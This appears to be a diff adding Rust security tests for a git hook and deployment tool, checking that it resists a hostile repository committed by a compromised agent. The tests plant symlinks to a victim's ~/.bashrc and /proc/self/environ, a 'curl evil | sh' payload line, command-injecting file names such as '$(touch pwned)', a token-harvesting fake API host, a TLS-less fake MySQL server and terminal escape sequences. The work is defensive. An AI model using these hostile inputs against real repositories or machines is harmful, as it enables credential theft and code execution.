@@ -1,0 +1,549 @@
+//! The repository is untrusted input: each attack a compromised agent can commit, run against
+//! the real executables, now doing no harm. A sandboxed `HOME` stands in for the victim's
+//! machine, local servers for the attacker's.
+//!
+//! See: the untrusted-repository issue.
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use crate::http::{Reply, Server};
+use crate::monitor::{App, Deploy, FAST};
+use crate::smart_http::GitHttp;
+use crate::util::{Sandbox, bin, describe, read, wait_until, write};
+
+/// A repository whose one commit holds `files` (path, content) and `links` (path, target).
+fn hostile_remote(sb: &Sandbox, files: &[(&str, &str)], links: &[(&str, &str)]) -> PathBuf {
+    let seed = sb.path().join("hostile-seed");
+    std::fs::create_dir_all(&seed).expect("create seed");
+    sb.git(&seed, &["init", "-q", "-b", "main"]);
+    write(&seed.join("README.md"), "# project\n");
+    for (path, content) in files {
+        write(&seed.join(path), content);
+    }
+    for (path, target) in links {
+        let at = seed.join(path);
+        std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
+        symlink(target, &at).expect("plant a link");
+    }
+    sb.git(&seed, &["add", "-A"]);
+    sb.git(&seed, &["commit", "-q", "-m", "innocent-looking"]);
+    let bare = sb.path().join("hostile.git");
+    sb.git(
+        sb.path(),
+        &[
+            "clone",
+            "-q",
+            "--bare",
+            seed.to_str().expect("utf-8"),
+            bare.to_str().expect("utf-8"),
+        ],
+    );
+    bare
+}
+
+/// The victim's `~/.bashrc`, with content to compare against afterwards.
+fn bashrc(sb: &Sandbox) -> PathBuf {
+    let path = sb.path().join("home/.bashrc");
+    write(&path, "# the victim's shell setup\n");
+    path
+}
+
+#[test]
+fn install_hooks_writes_nothing_through_committed_links() {
+    let sb = Sandbox::new();
+    let rc = bashrc(&sb);
+    let remote = hostile_remote(
+        &sb,
+        &[("notes/payload", "curl evil | sh\n")],
+        &[
+            (".gitattributes", "notes/payload"),
+            ("..gitattributes.mainstay-tmp", rc.to_str().expect("utf-8")),
+        ],
+    );
+    let work = sb.clone_repo(&remote, "work");
+    let out = sb.run("install-hooks", &work, &[]);
+    assert!(!out.status.success(), "{}", describe("install-hooks", &work, &out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains(".gitattributes") && stderr.contains("symbolic link"),
+        "{stderr}"
+    );
+    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
+    assert_eq!(read(&rc), "# the victim's shell setup\n");
+    assert_eq!(read(&work.join("notes/payload")), "curl evil | sh\n");
+    // Refused before anything changed: no hook, no config, no manifest.
+    assert!(!work.join(".git/hooks/pre-push").exists());
+    assert!(!work.join(".git/mainstay/install.json").exists());
+}
+
+#[test]
+fn install_hooks_ignores_temp_names_a_commit_planted() {
+    let sb = Sandbox::new();
+    let rc = bashrc(&sb);
+    let target = rc.to_str().expect("utf-8");
+    let remote = hostile_remote(
+        &sb,
+        &[(".husky/pre-push", "echo project hook\n")],
+        &[
+            ("..gitattributes.mainstay-tmp", target),
+            (".husky/_/.pre-push.mainstay-tmp", target),
+            (".husky/_/..pre-push.mainstay-tmp", target),
+        ],
+    );
+    let work = sb.clone_repo(&remote, "work");
+    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
+    sb.install(&work);
+    assert_eq!(read(&rc), "# the victim's shell setup\n");
+    let hook = std::fs::symlink_metadata(work.join(".husky/_/pre-push")).expect("installed");
+    assert!(hook.is_file(), "a regular file, not written through a link");
+    assert!(read(&work.join(".gitattributes")).contains("merge=mainstay-roadmap"));
+    let leftovers: Vec<_> = std::fs::read_dir(&work)
+        .expect("list")
+        .filter_map(|e| e.ok()?.file_name().into_string().ok())
+        .filter(|n| n.ends_with(".tmp"))
+        .collect();
+    assert!(leftovers.is_empty(), "{leftovers:?}");
+}
+
+#[test]
+fn install_hooks_refuses_a_hooks_directory_reached_through_a_committed_link() {
+    let sb = Sandbox::new();
+    let outside = sb.path().join("home/bin");
+    std::fs::create_dir_all(&outside).expect("mkdir");
+    let remote = hostile_remote(&sb, &[], &[(".husky", "../home/bin")]);
+    let work = sb.clone_repo(&remote, "work");
+    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
+    let out = sb.run("install-hooks", &work, &[]);
+    assert!(!out.status.success(), "{}", describe("install-hooks", &work, &out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains(".husky is a symbolic link"), "{stderr}");
+    let written: Vec<_> = walk(&outside);
+    assert!(written.is_empty(), "written outside the clone: {written:?}");
+}
+
+fn walk(dir: &Path) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            found.extend(walk(&path));
+        } else {
+            found.push(path);
+        }
+    }
+    found
+}
+
+#[test]
+fn a_committed_api_base_never_receives_the_token() {
+    const TOKEN: &str = "dop_v1_victims_token";
+    let evil = Server::start(|_| Reply::json(200, r#"{"deployments":[]}"#));
+    let config = format!(
+        "{FAST}\n[deploy.digitalocean]\napp_id = \"app-1\"\napi_base = \"{}\"\n",
+        evil.url("")
+    );
+    let deploy = Deploy::new(&config).with_env("DIGITALOCEAN_TOKEN", TOKEN);
+    assert_eq!(deploy.run(), "failed");
+    let log = deploy.log();
+    assert!(
+        log.contains("api_base in [deploy.digitalocean]")
+            && log.contains("not sent: the token goes only to https://api.digitalocean.com"),
+        "{log}"
+    );
+    let out = deploy.command(&["doctor"]).output().expect("run doctor");
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert!(said.contains("MAINSTAY_API_HOSTS"), "{said}");
+    assert!(
+        evil.requests().is_empty(),
+        "the token's holder was contacted: {:?}",
+        evil.requests()
+    );
+    assert!(!log.contains(TOKEN) && !said.contains(TOKEN));
+}
+
+/// A repository with a commit `A` to follow, and a second commit carrying `links` named after A.
+fn planted(links: &[(&str, &str)]) -> (Deploy, App) {
+    let app = App::start("", vec![200]);
+    let deploy = Deploy::new("");
+    *app.commit.lock().expect("commit") = deploy.sha.clone();
+    let sha7 = &deploy.sha[..7];
+    for (name, target) in links {
+        let name = name.replace("SHA7", sha7);
+        symlink(target, deploy.repo.join(&name)).expect("plant a link");
+        deploy.sandbox.git(&deploy.repo, &["add", "--", &name]);
+    }
+    if !links.is_empty() {
+        deploy
+            .sandbox
+            .git(&deploy.repo, &["commit", "-q", "-m", "status files, hostile"]);
+    }
+    write(&deploy.repo.join(".mainstay.toml"), &app.config(None, "1s"));
+    (deploy, app)
+}
+
+#[test]
+fn the_monitor_never_writes_through_status_files_a_commit_planted() {
+    let sink = tempfile::NamedTempFile::new().expect("a file outside the repository");
+    std::fs::write(sink.path(), "keep\n").expect("write sink");
+    let elsewhere = std::env::temp_dir().join(format!("mainstay-elsewhere-{}", std::process::id()));
+    let (deploy, _app) = planted(&[
+        (".deployment-status-SHA7.log", sink.path().to_str().expect("utf-8")),
+        (".deployment-monitor-SHA7.lock", elsewhere.to_str().expect("utf-8")),
+    ]);
+    let out = deploy.monitor();
+    assert!(!out.status.success(), "{}", describe("monitor", &deploy.repo, &out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("tracked by git"), "{stderr}");
+    assert_eq!(read(sink.path()), "keep\n");
+    assert!(!elsewhere.exists(), "a dangling link created a file outside");
+    let changed = deploy.sandbox.git(
+        &deploy.repo,
+        &["status", "--porcelain", "--untracked-files=no"],
+    );
+    assert!(changed.is_empty(), "{changed}");
+    // status reads nothing through the link either, and says why.
+    let out = deploy.status(&[&deploy.sha]);
+    assert_eq!(out.status.code(), Some(4), "{}", describe("status", &deploy.repo, &out));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
+}
+
+#[test]
+fn the_monitor_refuses_a_link_at_a_status_name_even_untracked() {
+    let (deploy, _app) = planted(&[]);
+    let record = deploy
+        .repo
+        .join(format!(".deployment-status-{}.json", &deploy.sha[..7]));
+    symlink("/proc/self/environ", &record).expect("plant a link");
+    let out = deploy.monitor();
+    assert!(!out.status.success(), "{}", describe("monitor", &deploy.repo, &out));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
+    assert!(std::fs::symlink_metadata(&record).expect("still there").file_type().is_symlink());
+}
+
+#[test]
+fn a_record_linked_to_dev_zero_is_skipped_not_read() {
+    // The local history reads every record in the work tree; this one never ends.
+    let (deploy, _app) = planted(&[(".deployment-status-0000000.json", "/dev/zero")]);
+    assert_eq!(deploy.run(), "success");
+}
+
+#[test]
+fn post_push_follows_nothing_whose_status_files_git_tracks() {
+    let sb = Sandbox::new();
+    let remote = sb.remote("remote");
+    let work = sb.clone_repo(&remote, "work");
+    sb.install(&work);
+    let sink = sb.path().join("sink");
+    write(&sink, "keep\n");
+    let sha = sb.commit(&work, "app.txt", "v2\n", "change");
+    let name = format!(".deployment-status-{}.log", &sha[..7]);
+    symlink(&sink, work.join(&name)).expect("plant a link");
+    sb.git(&work, &["add", "-f", "--", &name]);
+    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
+    assert!(out.status.success(), "{}", describe("git push", &work, &out));
+    let log = sb.common_dir(&work).join("mainstay/post-push.log");
+    wait_until("post-push to decide", || read(&log).contains(&sha));
+    let line = read(&log);
+    assert!(line.contains("landed, but is not followed") && line.contains("tracked"), "{line}");
+    assert_eq!(read(&sink), "keep\n");
+}
+
+/// A MySQL 8 server that offers no TLS, asks for full `caching_sha2_password` authentication
+/// and would hand over its own RSA key: it keeps every packet the client sends.
+fn fake_mysql() -> (u16, Arc<Mutex<Vec<Vec<u8>>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let packets = Arc::new(Mutex::new(Vec::new()));
+    let seen = packets.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let seen = seen.clone();
+            std::thread::spawn(move || {
+                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
+                let mut hello = vec![0x0a];
+                hello.extend_from_slice(b"8.0.36\0");
+                hello.extend_from_slice(&7u32.to_le_bytes());
+                hello.extend_from_slice(b"abcdefgh\0");
+                // LONG_PASSWORD, LONG_FLAG, CONNECT_WITH_DB, PROTOCOL_41, TRANSACTIONS,
+                // SECURE_CONNECTION, MULTI_RESULTS, PLUGIN_AUTH: and no SSL.
+                let caps: u32 = 0x1 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000;
+                hello.extend_from_slice(&(caps as u16).to_le_bytes());
+                hello.push(0xff);
+                hello.extend_from_slice(&2u16.to_le_bytes());
+                hello.extend_from_slice(&((caps >> 16) as u16).to_le_bytes());
+                hello.push(21);
+                hello.extend_from_slice(&[0; 10]);
+                hello.extend_from_slice(b"ijklmnopqrst\0");
+                hello.extend_from_slice(b"caching_sha2_password\0");
+                let send = |stream: &mut std::net::TcpStream, seq: u8, payload: &[u8]| {
+                    let len = (payload.len() as u32).to_le_bytes();
+                    let mut packet = vec![len[0], len[1], len[2], seq];
+                    packet.extend_from_slice(payload);
+                    let _ = stream.write_all(&packet);
+                };
+                send(&mut stream, 0, &hello);
+                let mut seq = 1;
+                loop {
+                    let mut head = [0u8; 4];
+                    if stream.read_exact(&mut head).is_err() {
+                        break;
+                    }
+                    let len = u32::from_le_bytes([head[0], head[1], head[2], 0]) as usize;
+                    let mut payload = vec![0; len];
+                    if stream.read_exact(&mut payload).is_err() {
+                        break;
+                    }
+                    seen.lock().expect("packets").push(payload);
+                    seq = head[3].wrapping_add(1);
+                    if seq == 2 {
+                        // "Perform full authentication."
+                        send(&mut stream, seq, &[0x01, 0x04]);
+                    }
+                }
+                let _ = seq;
+            });
+        }
+    });
+    (port, packets)
+}
+
+#[test]
+fn a_database_without_tls_never_gets_the_password() {
+    const PASSWORD: &str = "db-s3cret-pw";
+    let (port, packets) = fake_mysql();
+    let config = FAST.replace("max_wait = \"20s\"", "max_wait = \"2s\"") + "\n[deploy.mysql]\n";
+    let deploy = Deploy::new(&config)
+        .with_env("DB_HOST", "127.0.0.1")
+        .with_env("DB_PORT", &port.to_string())
+        .with_env("DB_USER", "deploy")
+        .with_env("DB_PASS", PASSWORD)
+        .with_env("DB_NAME", "deploys")
+        .with_env("MAINSTAY_DB_TLS", "disabled");
+    assert_eq!(deploy.run(), "failed");
+    let log = deploy.log();
+    assert!(log.contains("warning: TLS is off"), "{log}");
+    assert!(log.contains("MAINSTAY_DB_SERVER_KEY"), "{log}");
+    let packets = packets.lock().expect("packets").clone();
+    assert!(!packets.is_empty(), "the client connected");
+    assert!(
+        !packets.iter().any(|p| p.as_slice() == [0x02]),
+        "the client asked the server for its key: {packets:?}"
+    );
+    let all: Vec<u8> = packets.concat();
+    assert!(
+        !all.windows(PASSWORD.len()).any(|w| w == PASSWORD.as_bytes()),
+        "the password went out in clear"
+    );
+    assert!(!log.contains(PASSWORD));
+}
+
+#[test]
+fn a_committed_tls_disabled_is_refused() {
+    let deploy = Deploy::new(&format!("{FAST}\n[deploy.mysql]\ntls = \"disabled\"\n"))
+        .with_env("DB_HOST", "10.0.0.5");
+    let out = deploy.monitor();
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("key `deploy.mysql.tls`") && stderr.contains("MAINSTAY_DB_TLS=disabled"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn a_password_in_a_remote_url_reaches_no_argv_log_or_record() {
+    const PASSWORD: &str = "url-s3cret-pw";
+    let sb = Sandbox::new();
+    let remote = sb.remote("remote");
+    // The listing post-push asks for fails, so its error line is logged.
+    let server = GitHttp::refusing(&crate::smart_http::root_of(&remote), sb.env(), |target| {
+        target.contains("git-upload-pack").then_some(500)
+    });
+    let work = sb.clone_repo(&remote, "work");
+    sb.install(&work);
+    // git's own trace records the command line of every git process, ours included.
+    let argv = sb.path().join("trace.log");
+    let url = server.url_with_password("agent", PASSWORD, "remote.git");
+    let sha = sb.commit(&work, "app.txt", "v2\n", "change");
+    let push = |args: &[&str]| {
+        sb.command("git", &work)
+            .env("GIT_TRACE", &argv)
+            .args(args)
+            .output()
+            .expect("run git push")
+    };
+    let out = push(&["push", "-q", &url, "main"]);
+    assert!(out.status.success(), "{}", describe("git push", &work, &out));
+    let log = sb.common_dir(&work).join("mainstay/post-push.log");
+    wait_until("post-push to log the failed listing", || read(&log).contains("error"));
+    // An agent branch, force-pushed: the audit log names the remote.
+    sb.git(&work, &["checkout", "-q", "-b", "agent/x"]);
+    sb.commit(&work, "a.txt", "1\n", "one");
+    assert!(push(&["push", "-q", &url, "agent/x"]).status.success());
+    sb.git(&work, &["commit", "-q", "--amend", "-m", "rewritten"]);
+    let out = push(&["push", "-q", "--force", &url, "agent/x"]);
+    assert!(out.status.success(), "{}", describe("git push --force", &work, &out));
+    let audit = read(&sb.common_dir(&work).join("mainstay/audit.jsonl"));
+    assert!(audit.contains("force-push"), "{audit}");
+    // `mainstay push` to the URL, the server gone.
+    drop(server);
+    let out = sb
+        .command(bin("mainstay"), &work)
+        .env("GIT_TRACE", &argv)
+        .args(["push", &url, "agent/x"])
+        .output()
+        .expect("run mainstay push");
+    assert!(!out.status.success());
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let argv = read(&argv);
+    // Our own git calls happened, and none carried the password. The user's `git push` and the
+    // helpers git itself runs for a URL (`git remote-http`, `send-pack`, `fetch-pack`, the hook's
+    // `$2`) are git's.
+    assert!(argv.contains("built-in: git ls-remote"), "{argv}");
+    let gits_own = ["git push", "git send-pack", "git fetch-pack", "git remote-"];
+    let ours: Vec<&str> = argv
+        .lines()
+        .filter(|l| l.contains("built-in: git "))
+        .filter(|l| !gits_own.iter().any(|own| l.contains(&format!("built-in: {own}"))))
+        .collect();
+    for (what, text) in [
+        ("argv", ours.join("\n")),
+        ("post-push.log", read(&log)),
+        ("audit.jsonl", audit),
+        ("mainstay push", said),
+    ] {
+        assert!(!text.contains(PASSWORD), "{what} holds the password:\n{text}");
+    }
+    let _ = sha;
+}
+
+/// A sessions ledger of `n` list items under one heading.
+fn big_ledger(n: usize, extra: &str) -> String {
+    let mut text = String::from("# Active sessions\n\n## Sessions\n\n");
+    for i in 0..n {
+        text.push_str(&format!("- Session-20260101-TASK-{i:06}-abcdef: working on item {i}\n"));
+    }
+    text.push_str(extra);
+    text
+}
+
+#[test]
+fn a_merge_past_its_budget_falls_back_to_the_marked_line_merge() {
+    let sb = Sandbox::new();
+    let dir = sb.path().join("files");
+    let base = big_ledger(40_000, "");
+    let ours = big_ledger(40_000, "- Session-20261201-OURS-000001-zzzzzz: ours\n");
+    let theirs = big_ledger(40_000, "- Session-20261201-THEIRS-000001-yyyyyy: theirs\n");
+    for budget in [None, Some("1ms")] {
+        write(&dir.join("base.md"), &base);
+        write(&dir.join("ours.md"), &ours);
+        write(&dir.join("theirs.md"), &theirs);
+        let mut cmd = sb.command(bin("merge-driver"), &dir);
+        cmd.args(["sessions", "--", "base.md", "ours.md", "theirs.md", "7", "SESSIONS.md"]);
+        if let Some(budget) = budget {
+            cmd.env("MAINSTAY_MERGE_BUDGET", budget);
+        }
+        let out = cmd.output().expect("run merge-driver");
+        let merged = read(&dir.join("ours.md"));
+        assert!(merged.contains(": ours") && merged.contains(": theirs"), "{budget:?}");
+        match budget {
+            None => assert_eq!(out.status.code(), Some(0), "{}", describe("merge", &dir, &out)),
+            Some(_) => {
+                assert_eq!(out.status.code(), Some(1), "{}", describe("merge", &dir, &out));
+                assert!(merged.contains("<<<<<<<"));
+                assert!(String::from_utf8_lossy(&out.stderr).contains("MAINSTAY_MERGE_BUDGET"));
+            }
+        }
+    }
+}
+
+#[test]
+fn a_config_linked_to_dev_zero_is_refused_at_once() {
+    let sb = Sandbox::new();
+    let remote = sb.remote("remote");
+    let work = sb.clone_repo(&remote, "work");
+    sb.install(&work);
+    symlink("/dev/zero", work.join(".mainstay.toml")).expect("plant a link");
+    sb.git(&work, &["add", "--", ".mainstay.toml"]);
+    sb.git(&work, &["commit", "-q", "-m", "config, hostile"]);
+    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains(".mainstay.toml") && stderr.contains("symbolic link"), "{stderr}");
+    // The merge driver steps aside to the line merge, naming why.
+    let dir = &work;
+    for (name, text) in [("b.md", "a\n"), ("o.md", "a\nb\n"), ("t.md", "a\n")] {
+        write(&dir.join(name), text);
+    }
+    let out = sb.run("merge-driver", dir, &["roadmap", "--", "b.md", "o.md", "t.md"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe("merge-driver", dir, &out));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("merging line by line"));
+}
+
+#[test]
+fn hostile_file_names_routed_to_the_driver_merge_as_files() {
+    let sb = Sandbox::new();
+    let names = ["--stdout", "a b $(touch pwned).md", "-x'; touch pwned2 #.md"];
+    let mut attributes = String::new();
+    let mut files = Vec::new();
+    for name in names {
+        // A quoted pattern, as git reads names with spaces.
+        attributes.push_str(&format!("\"{name}\" merge=mainstay-sessions\n"));
+        files.push((name, "# Sessions\n\n- Session-20260101-A-000001-aaaaaa: one\n"));
+    }
+    files.push((".gitattributes", attributes.as_str()));
+    let remote = hostile_remote(&sb, &files, &[]);
+    let work = sb.clone_repo(&remote, "work");
+    sb.install(&work);
+    sb.git(&work, &["commit", "-q", "-am", "route the ledgers"]);
+    let add = |branch: &str, who: &str| {
+        sb.git(&work, &["checkout", "-q", "-B", branch, "main"]);
+        for name in names {
+            let path = work.join(name);
+            let text = read(&path) + &format!("- Session-20261201-{who}-000001-bbbbbb: {who}\n");
+            write(&path, &text);
+        }
+        sb.git(&work, &["commit", "-q", "-am", who]);
+    };
+    add("theirs", "THEIRS");
+    add("ours", "OURS");
+    let out = sb.git_output(&work, &["merge", "-q", "--no-edit", "theirs"]);
+    assert!(out.status.success(), "{}", describe("git merge", &work, &out));
+    for name in names {
+        let merged = read(&work.join(name));
+        assert!(merged.contains(": OURS") && merged.contains(": THEIRS"), "{name}: {merged}");
+    }
+    assert!(!work.join("pwned").exists() && !work.join("pwned2").exists());
+}
+
+#[test]
+fn what_an_app_answers_cannot_mention_link_or_drive_the_terminal() {
+    // JSON escapes: the app's answer decodes to a real ESC and BEL.
+    let app = App::start("<!channel>\\u001b[2J\\u001b]0;pwned\\u0007", vec![200]);
+    let webhook = Server::start(|_| Reply::json(200, "ok"));
+    let config = app
+        .config(None, "1s")
+        .replace("max_wait = \"20s\"", "max_wait = \"300ms\"");
+    let deploy = Deploy::new(&config).with_env("MAINSTAY_WEBHOOK_URL", &webhook.url("/hook"));
+    assert_eq!(deploy.run(), "timeout");
+    let alerts = webhook.requests();
+    assert_eq!(alerts.len(), 1, "{alerts:?}");
+    let body: serde_json::Value = serde_json::from_str(&alerts[0].body).expect("JSON");
+    let text = body["text"].as_str().expect("text");
+    assert!(!text.contains("<!channel>") && text.contains("&lt;!channel&gt;"), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text:?}");
+    let out = deploy.status(&[&deploy.sha]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(!out.stdout.contains(&0x1b), "{}", String::from_utf8_lossy(&out.stdout));
+    assert!(!deploy.log().contains('\u{1b}'));
+}
